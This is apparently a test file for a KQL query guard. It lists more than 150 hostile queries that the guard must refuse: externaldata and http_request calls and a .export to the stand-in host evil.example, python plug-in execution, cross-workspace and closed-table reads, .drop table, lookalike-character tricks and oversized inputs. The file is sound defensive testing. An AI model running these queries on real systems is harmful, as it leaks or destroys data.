import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Guard, GuardRules } from '../../src/kql/guard.ts';
import { openGuard } from '../../src/kql/open-guard.ts';
import { closed, typed } from '../kql/workspace.ts';

/** Looks like the Latin letter. */
const cyrillic = 'а';

interface Attack {
  rule: string;
  texts: string[];
  /** Absent: somebody to whom nothing is closed. */
  rules?: GuardRules;
}

const attacks: Record<string, Attack> = {
  'data that leaves or comes in': {
    rule: 'external-data',
    texts: [
      'externaldata(a:string)["https://evil.example/x"]',
      'externaldata (a:string) [h@"https://evil.example/x"] with (format="csv")',
      'let d = externaldata(a:string)["https://evil.example"]; d | take 1',
      'SigninLogs | join kind=inner (externaldata(IPAddress:string)["https://evil.example"]) on IPAddress',
      'SigninLogs | where IPAddress in ((externaldata(a:string)["https://evil.example"]))',
      'external_data(a:string)["https://evil.example"]',
      'SigninLogs | extend x = toscalar(externaldata(a:string)["https://evil.example"] | take 1)',
    ],
  },
  'plug-ins that call out or run code': {
    rule: 'plug-in',
    texts: [
      'SigninLogs | evaluate http_request("https://evil.example")',
      'evaluate http_request_post("https://evil.example", dynamic({}), "x")',
      'evaluate sql_request("Server=evil.example", "select 1")',
      'evaluate mysql_request("Server=evil.example", "select 1")',
      'evaluate postgresql_request("Host=evil.example", "select 1")',
      'evaluate cosmosdb_sql_request("AccountEndpoint=https://evil.example", "select 1")',
      'SigninLogs | evaluate python(typeof(*), "import os")',
      'SigninLogs | evaluate r(typeof(*), "1")',
      'evaluate azure_digital_twins_query_request("https://evil.example", "select 1")',
      'evaluate infer_storage_schema(dynamic({"x":1}))',
      'SigninLogs | evaluate preview(1)',
      'SigninLogs | evaluate Bag_Unpack(DeviceDetail)',
      'SigninLogs | evaluate constructor()',
    ],
  },
  'other places': {
    rule: 'other-cluster',
    texts: [
      'workspace("other").SigninLogs',
      'workspace("other").SigninLogs | union SigninLogs',
      'union SigninLogs, workspace("b").SigninLogs',
      'app("x").requests',
      'resource("/subscriptions/x").AzureActivity',
      'adx("https://help.kusto.windows.net/Samples").StormEvents',
      'arg("").Resources',
      'cluster("help").database("Samples").StormEvents',
      'database("other").SigninLogs',
      'SigninLogs | join (cluster("help").database("Samples").StormEvents) on $left.UserId == $right.State',
      'let f = () { workspace("other").SigninLogs }; f()',
      'SigninLogs | where IPAddress in (workspace("x").SigninLogs)',
      'WORKSPACE("other").SigninLogs',
      'let g = entity_group [cluster("a").database("b")]; macro-expand g as X (X.T)',
      'print x = toscalar(database("other").SigninLogs | count)',
      'workspace( // mine\n "x").SigninLogs',
    ],
  },
  'tables by a text': {
    rule: 'table-by-name',
    texts: [
      'table("EmailEvents")',
      'table("EmailEvents") | take 5',
      'table(strcat("Email", "Events"))',
      'let t = "EmailEvents"; table(t)',
      'let f = (t:string) { table(t) }; f("EmailEvents")',
      'union SigninLogs, table("EmailEvents")',
      'SigninLogs | where IPAddress in ((table("EmailEvents") | project Subject))',
      'external_table("x")',
      'materialized_view("EmailEvents")',
      'stored_query_result("x")',
      'Table("EmailEvents")',
      'SigninLogs | union (table ( // by name\n "EmailEvents"))',
    ],
  },
  'all tables at once': {
    rule: 'wildcard',
    texts: [
      'union *',
      'union withsource=T *',
      'union Sec*',
      'union SigninLogs, *Events',
      'union kind=outer SigninLogs, E* | count',
      'SigninLogs | union (union *)',
      'let a = union *; a',
      'let f = () { union S* }; f()',
      'SigninLogs | where IPAddress in ((union * | project Subject))',
    ],
  },
  'search and find': {
    rule: 'search',
    texts: [
      'search "secret"',
      'search *',
      'search in (SigninLogs) "x"',
      'search kind=case_sensitive "x"',
      'find "x"',
      'find where UserId == "x"',
      'find in (SigninLogs) where UserId == "x"',
      'let a = search "x"; a',
      'SigninLogs | union (search "x")',
      'SigninLogs | join (find "x") on UserId',
    ],
  },
  'control commands': {
    rule: 'command',
    texts: [
      '.show tables',
      '.drop table SigninLogs',
      '.set-or-append X <| SigninLogs',
      '  .show database schema',
      '// hello\n.show tables',
      '.execute database script <| .show tables',
      '.export to csv ("https://evil.example") <| SigninLogs',
      '#connect cluster("help")\nSigninLogs',
      '.',
    ],
  },
  'statements that set the scene': {
    rule: 'statement',
    texts: [
      'set notruncation; SigninLogs',
      'set query_datascope="all"; SigninLogs',
      'declare query_parameters(x:long = 1); SigninLogs',
      'restrict access to (SigninLogs); SigninLogs',
      'declare pattern p; SigninLogs',
      'SigninLogs; EmailEvents',
      'SigninLogs | count; SecurityEvent | count',
      'SigninLogs; let x = 1;',
    ],
  },
  'operators that are not needed': {
    rule: 'operator',
    texts: [
      'SigninLogs | consume',
      'SigninLogs | fork (count) (take 5)',
      'SigninLogs | facet by UserId with (take 5)',
      'SigninLogs | __executeAndCache',
      'SigninLogs | assert-schema (a:long)',
      'SigninLogs | make-graph UserId --> IPAddress | graph-match (a)-[e]->(b) project a.UserId',
      'SigninLogs | join hint.remote=left SecurityEvent on TimeGenerated',
      'SigninLogs | evaluate hint.distribution=per_node python(typeof(*), "1")',
      'SigninLogs | join hint.concurrency=1000 SecurityEvent on TimeGenerated',
      'union hint.concurrency=1000 SigninLogs, SecurityEvent',
    ],
  },
  'functions that are not ours': {
    rule: 'function',
    texts: [
      'SigninLogs | extend x = current_principal()',
      'print current_principal_details()',
      'print current_cluster_endpoint()',
      'print current_database()',
      'SigninLogs | extend x = extent_id()',
      'SigninLogs | where cursor_after("x")',
      'nobody_knows() | take 1',
      'SigninLogs | invoke nobody_knows()',
      'SigninLogs | extend x = __hash_djb2(UserId)',
      'SigninLogs | where constructor(UserId)',
      'let f = () { let inner = () { SigninLogs }; inner() }; inner()',
    ],
  },
  'saved functions, which read what they like': {
    rule: 'saved-function',
    texts: [
      'Everything',
      'Everything()',
      'Everything | take 1',
      'SigninLogs | union Everything',
      'SigninLogs | invoke Everything()',
      'SigninLogs | where UserId in (Everything)',
      'Firewall_CL | where x in (Everything)',
      'let a = Everything; a',
    ],
  },
  'saved functions, for whom a table is closed': {
    rule: 'saved-function',
    rules: closed,
    texts: ['imDns', 'imDns()', '_Im_Dns(starttime=ago(1d))', 'SigninLogs | union ASimNetworkSession()'],
  },
  'closed tables': {
    rule: 'closed-table',
    rules: closed,
    texts: [
      'EmailEvents',
      'EmailEvents | count',
      "['EmailEvents'] | count",
      '["EmailEvents"]',
      'emailevents | count',
      'union SigninLogs, EmailEvents',
      'SigninLogs | union (EmailEvents | where Subject has "x")',
      'SigninLogs | join kind=leftouter EmailEvents on TimeGenerated',
      'SigninLogs | lookup (EmailEvents) on TimeGenerated',
      'SigninLogs | where UserId in (EmailEvents)',
      'SigninLogs | where UserId in ((EmailEvents | project Subject))',
      'Firewall_CL | where user in (EmailEvents)',
      'Firewall_CL | where Operation in (SigninLogs)',
      'let a = EmailEvents; a',
      'let a = EmailEvents | take 5; SigninLogs | take 1',
      'let f = () { EmailEvents }; f()',
      'let f = (T:(*)) { T | take 5 }; f(EmailEvents)',
      'let f = (T:(*)) { T | take 5 }; EmailEvents | invoke f()',
      'let EmailEvents = SigninLogs; EmailEvents',
      'let SigninLogs = EmailEvents; SigninLogs',
      'let f = (EmailEvents:(*)) { EmailEvents }; f(SigninLogs)',
      'print x = toscalar(EmailEvents | count)',
      'let m = materialize(EmailEvents); m | count',
      'SigninLogs | extend x = toscalar(EmailEvents | summarize max(Subject))',
      'SigninLogs | mv-apply d = DeviceDetail on (union EmailEvents)',
      'SigninLogs | partition by UserId (union EmailEvents)',
      'SigninLogs | evaluate ipv4_lookup(EmailEvents, IPAddress, SenderFromAddress)',
      'union isfuzzy=true SigninLogs, (EmailEvents)',
      'let v = view () { EmailEvents }; v',
      'SigninLogs | as EmailEvents | union EmailEvents',
      'SigninLogs // all of it\n| union // really\n EmailEvents',
      'EmailEvents // SigninLogs',
      'range i from 1 to 1 step 1 | join kind=fullouter (EmailEvents | extend i = 1) on i',
      'datatable(a:string)["x"] | union EmailEvents',
    ],
  },
  'closed tables, where no schema is known': {
    rule: 'closed-table',
    rules: { ...closed, schema: undefined },
    texts: [
      'EmailEvents',
      'T | where x in (EmailEvents)',
      'T | union EmailEvents',
      'let f = (T:(*)) { T }; f(EmailEvents)',
      'T | evaluate ipv4_lookup(EmailEvents, a, b)',
      'T | where EmailEvents == 1',
      'T | extend x = toscalar(EmailEvents | count)',
    ],
  },
  'closed tables in what was reviewed': {
    rule: 'closed-table',
    rules: { ...closed, isReviewed: true },
    texts: [
      'search "x"',
      'search in (E*) "x"',
      'find where Subject == "x"',
      'union *',
      'union Email* | count',
      'union *mail*',
    ],
  },
  'copies of closed tables': {
    rule: 'closed-table',
    rules: { ...closed, isReviewed: true },
    texts: [
      'EmailEvents_RST',
      'EmailEvents_SRCH | count',
      'emailevents_rst',
      'EmailEvents_spring_SRCH',
      "['EmailEvents_RST_2'] | count",
      'SigninLogs | union EmailEvents_RST',
      'union EmailEvents_*',
      'union *_SRCH',
      'find in (EmailEvents_R*) where Subject == "x"',
      'Firewall_CL | where a in (EmailEvents_RST)',
    ],
  },
  'a search whose name of a table stands for another': {
    rule: 'closed-table',
    rules: { ...closed, isReviewed: true },
    texts: ['find where UserId in ((find in (SigninLogs) where UserId == "x" | project UserId))'],
  },
  'functions that nobody knows, for whom a table is closed': {
    rule: 'function',
    rules: { ...closed, schema: undefined, isReviewed: true },
    texts: [
      'EmailView() | take 1',
      '_Im_Dns()',
      'SigninLogs | invoke EmailView()',
      'SigninLogs | where UserId in ((EmailView() | project Subject))',
    ],
  },
  'names that nobody knows, for whom a table is closed': {
    rule: 'unknown-table',
    rules: closed,
    texts: [
      'union isfuzzy=true (EmailViewNew | project Subject)',
      'union isfuzzy=true SigninLogs, EmailViewNew',
      'union isfuzzy=true SigninLogs, (EmailViewNew)',
      'union isfuzzy=true (SigninLogs | join EmailViewNew on UserId)',
      'union isfuzzy=true (SigninLogs | lookup (EmailViewNew) on UserId)',
      'union isfuzzy=true (SigninLogs | partition by UserId { EmailViewNew })',
      'union isfuzzy=true (Firewall_CL | extend x = toscalar(EmailViewNew))',
      'union isfuzzy=true (SigninLogs | where UserId in ((EmailViewNew | project Subject)))',
      'SecurityEvent | evaluate bag_unpack(Computer) | where a in ((EmailViewNew | project Subject))',
      'let f = () { union isfuzzy=true EmailViewNew }; f()',
      'let f = (T:(*)) { T }; union isfuzzy=true Firewall_CL, (f(EmailViewNew))',
      'Firewall_CL | evaluate ipv4_lookup(EmailViewNew, a, a)',
      'SigninLogs | union (EmailEventsNew)',
    ],
  },
  'names that nobody knows, in open rows': {
    rule: 'unknown-table',
    texts: [
      'SecurityEvent | evaluate bag_unpack(Computer) | where a in ((EmailViewNew | project Subject))',
      'Firewall_CL | where a in ((EmailViewNew | project Subject))',
    ],
  },
  'names that may be columns or tables, for whom a table is closed': {
    rule: 'unknown-name',
    rules: closed,
    texts: [
      'SecurityEvent | evaluate bag_unpack(Computer) | where a in (EmailViewNew)',
      'SecurityEvent | evaluate bag_unpack(Computer) | where a in ((EmailViewNew))',
      'SecurityEvent | evaluate bag_unpack(Computer) | where a !in~ (EmailViewNew)',
      'Firewall_CL | where a in (EmailViewNew)',
      'Firewall_CL | where a has_any (EmailViewNew)',
      'Firewall_CL | where a has_all ((EmailViewNew))',
      'Firewall_CL | where a in ("x", EmailViewNew)',
      'Firewall_CL | extend b = iff(a in (EmailViewNew), 1, 2)',
      'union isfuzzy=true (SigninLogs | evaluate ipv4_lookup(EmailViewNew, IPAddress, b)), Firewall_CL',
      'union isfuzzy=true (SigninLogs | where UserId in (EmailViewNew)), Firewall_CL',
    ],
  },
  'tables that are billed by what is read, without their name': {
    rule: 'search-plan',
    rules: { ...typed, isReviewed: true },
    texts: [
      'search "x"',
      'find where UserId == "x"',
      'union * | count',
      'union Container*',
      'union SigninLogs, Arch*',
      'find in (Container*) where LogMessage has "x"',
      'search in (Archive*) "x"',
      'SigninLogs | union (search "x")',
    ],
  },
  'letters that look like others, or are not seen': {
    rule: 'characters',
    texts: [
      `SigninLogs | where ${cyrillic}ccount == 1`,
      'ЅigninLogs',
      'SigninLogs\u200b | take 5',
      'Sign\u200dinLogs',
      '\ufeffSigninLogs',
      'SigninLogs | take 5 // \u202e ecila',
      'SigninLogs | where UserId == "\u202etxt"',
      'SigninLogs | where UserId == "a\u2066b"',
      'SigninLogs \u2028| union EmailEvents',
      'SigninLogs // \u0085| union EmailEvents',
      'SigninLogs\0',
      'SigninLogs | where UserId == "\0"',
      'SigninLogs\u000b| take 5',
      'SigninLogs \ud800| take 5',
      'SigninLogs｜take 5',
      'SigninLogs | take ５',
      'SigninLogs | where UserId == ʺxʺ',
      'SigninLogs | where UserId == “x”',
      "['Email\\u0045vents'] | count",
      "[@'EmailEvents'] | count",
      "union ['S*']",
      "['Email' 'Events'] | count",
      'union ﬁrewall_CL, SigninLogs',
      'SigninLogs\u{e0041}',
    ],
  },
  'too long': {
    rule: 'too-long',
    texts: [
      '('.repeat(20_000),
      `SigninLogs | where UserId in (${'"x",'.repeat(5_000)}"x")`,
      `SigninLogs //${'x'.repeat(8_000)}`,
      '💥'.repeat(8_001),
      ' '.repeat(1_000_000),
    ],
  },
  'too deep': {
    rule: 'too-deep',
    texts: [
      `print ${'('.repeat(3_990)}1${')'.repeat(3_990)}`,
      `print ${'['.repeat(7_900)}`,
      `print dynamic(${'['.repeat(3_900)}${']'.repeat(3_900)})`,
      `print ")))))))))" ${'('.repeat(61)}`,
      `SigninLogs | where ${'not('.repeat(1_000)}true${')'.repeat(1_000)}`,
      `let f = () ${'{'.repeat(70)}`,
      `print '\\')' ${'{'.repeat(70)}`,
    ],
  },
  'without end': {
    rule: 'too-complex',
    texts: [
      `SigninLogs${' | join SecurityEvent on TimeGenerated'.repeat(150)}`,
      `SigninLogs${' | union SecurityEvent'.repeat(300)}`,
      `union ${'SigninLogs, '.repeat(500)}SigninLogs`,
      `let a0 = SigninLogs; ${doubled((n) => `let a${n + 1} = a${n} | union a${n};`)} a40`,
      `let a0 = () { SigninLogs }; ${doubled((n) => `let a${n + 1} = () { a${n}() | union a${n}() };`)} a40()`,
      `let a0 = (x:long) { x }; ${doubled((n) => `let a${n + 1} = (x:long) { a${n}(x) + a${n}(x) };`)} print a40(1)`,
      `print ${'1+'.repeat(3_900)}1`,
      `SigninLogs${' | count'.repeat(900)}`,
      `SigninLogs${'|'.repeat(3_000)}`,
      `SigninLogs | where a${' and a'.repeat(1_200)}`,
      `SigninLogs | where ${'a.'.repeat(3_900)}a`,
      `SigninLogs | project ${'a,'.repeat(3_900)}a`,
    ],
  },
  'tables that are billed by what is read': {
    rule: 'search-plan',
    texts: [
      'ContainerLogV2 | join SigninLogs on TimeGenerated',
      'SigninLogs | union ContainerLogV2',
      'let a = ContainerLogV2; a',
      'let a = 1; Archive_CL | where Text == tostring(a)',
      'SigninLogs | where UserId in (ContainerLogV2)',
      'print toscalar(Archive_CL | count)',
    ],
  },
  'broken texts': {
    rule: 'syntax',
    texts: [
      '',
      ' \n\t ',
      '// nothing but a comment',
      'let x = 1;',
      'SigninLogs |',
      'SigninLogs | where',
      'SigninLogs | where UserId == "x',
      'SigninLogs | where UserId = "x"',
      `print "${'"" '.repeat(300)}`,
      `SigninLogs${'|'.repeat(200)}`,
      '/* SigninLogs */ EmailEvents',
      'SigninLogs */ EmailEvents',
    ],
  },
};

function doubled(line: (n: number) => string): string {
  return Array.from({ length: 40 }, (_, n) => line(n)).join(' ');
}

let guard: Guard;
beforeAll(() => {
  guard = openGuard({ mostWaitMs: 60_000 });
});
afterAll(() => guard.close());

describe.each(Object.entries(attacks))('%s', (_, { rule, texts, rules = typed }) => {
  it.each(texts.map((text) => [text.length > 90 ? `${text.slice(0, 90)}…` : text, text]))(
    '%j',
    async (_short, text) => {
      const verdict = await guard.check(text, rules);
      expect(verdict).toMatchObject({ kind: 'refused', rule });
      if (verdict.kind !== 'refused') return;
      // Said to people: a sentence, and a place within the text.
      expect(verdict.message).toMatch(/^.{10,300}$/s);
      if (verdict.at) expect(verdict.at.start).toBeLessThanOrEqual(text.length);
    },
  );
});

it('knows more than sixty attacks', () => {
  expect(Object.values(attacks).flatMap(({ texts }) => texts).length).toBeGreaterThan(150);
});

describe('whoever asks meanwhile', () => {
  /** Good KQL, within every bound: two thousand columns, handed on four hundred times. */
  const columns = Array.from({ length: 2_000 }, (_, n) => `c${n}=1`).join(',');
  const slow = `SigninLogs | extend ${columns}${'|extend z=1'.repeat(400)}`;

  it('is answered while a text is being read that takes too long, and its thread is replaced', async () => {
    const impatient = openGuard({ workers: 2, mostWaitMs: 120_000 });
    try {
      // Ready, so that nobody waits for a thread to start.
      await Promise.all([impatient.check('SigninLogs', typed), impatient.check('SigninLogs', typed)]);
      const answers = await Promise.all([
        ...Array.from({ length: 4 }, () => impatient.check(slow, { ...typed, isReviewed: true })),
        ...Array.from({ length: 4 }, () => impatient.check('SigninLogs | take 5', typed)),
      ]);
      for (const hostile of answers.slice(0, 4)) expect(hostile).toMatchObject({ rule: 'too-slow' });
      for (const ordinary of answers.slice(4)) expect(ordinary.kind).toBe('allowed');
    } finally {
      await impatient.close();
    }
  }, 180_000);

  it('is told so where too many wait, and after it is closed', async () => {
    const small = openGuard({ workers: 1, mostWaitMs: 1 });
    expect(await small.check('SigninLogs', typed)).toMatchObject({ rule: 'busy' });
    await small.close();
    expect(await small.check('SigninLogs', typed)).toMatchObject({ rule: 'busy' });
  });
});
